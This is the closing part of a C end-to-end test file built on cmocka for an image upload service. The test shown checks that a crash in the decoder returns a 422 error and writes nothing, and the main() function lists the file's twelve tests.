    long long rows = e2e_db_int("SELECT COUNT(*) FROM pb_media.media WHERE owner_id = ?", "s", owner.id);
    int files = media_files();
    e2e_stack_service("media", "restart", CRASH_ENV);
    struct resp *r = e2e_upload(&owner, "pet", "image/jpeg", b.buf, b.len);
    struct resp *again = e2e_upload(&owner, "pet", "image/jpeg", b.buf, b.len);
    long long rows_after = e2e_db_int("SELECT COUNT(*) FROM pb_media.media WHERE owner_id = ?", "s", owner.id);
    int files_after = media_files();
    e2e_stack_service("media", "restart", NULL); /* the real converter, before anything can fail */
    for (int i = 0; i < 2; i++) {
        struct resp *x = i ? again : r;
        EXPECT_ERROR(x, 422, "validation_failed");
        const char *why = e2e_field_error(x, "file");
        if (!why || !strstr(why, "the jpeg image cannot be decoded"))
            fail_msg("expected fields.file to say the image cannot be decoded: %s", x->body);
    }
    assert_int_equal(rows_after, rows);
    assert_int_equal(files_after, files);
    e2e_resp_free(again);
    e2e_resp_free(r);
    r = upload_ok(&owner, "pet", "image/jpeg", &b);
    assert_int_equal(e2e_int(r, "width"), 300);
    e2e_resp_free(r);
    blob_free(&b);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(jpeg_upload_is_resized_and_stored),
        cmocka_unit_test(png_and_webp_never_upscaled),
        cmocka_unit_test(exif_and_gps_are_stripped),
        cmocka_unit_test(bad_bodies_are_refused),
        cmocka_unit_test(size_limit),
        cmocka_unit_test(roles_and_purposes),
        cmocka_unit_test(concurrent_identical_uploads),
        cmocka_unit_test(public_files),
        cmocka_unit_test(private_files),
        cmocka_unit_test(describe_upload),
        cmocka_unit_test(resolve_ids),
        cmocka_unit_test(a_decoder_crash_is_a_422_that_writes_nothing),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
